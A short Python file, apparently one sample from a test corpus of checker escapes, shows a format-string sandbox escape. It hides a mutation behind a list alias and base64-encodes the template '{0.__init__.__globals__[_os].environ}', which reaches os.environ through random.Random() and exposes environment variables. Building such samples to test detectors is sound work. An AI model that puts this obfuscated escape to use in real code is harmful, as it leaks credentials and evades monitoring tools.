# family: format
# Escape: only direct item stores on the table's own name mark it as changed. Putting the table in a list and
# storing through the list (`tables[0]["row"] = ...`) changes the same dict unseen; its "row" item is then a
# base64-decoded "{0.__init__.__globals__[_os].environ}", formatted with random.Random().
import base64
import random

LAYOUTS = {"row": "| {0} |"}


def tool() -> str:
    tables = [LAYOUTS]
    tables[0]["row"] = base64.b64decode("ezAuX19pbml0X18uX19nbG9iYWxzX19bX29zXS5lbnZpcm9ufQ==").decode()
    return LAYOUTS["row"].format(random.Random())
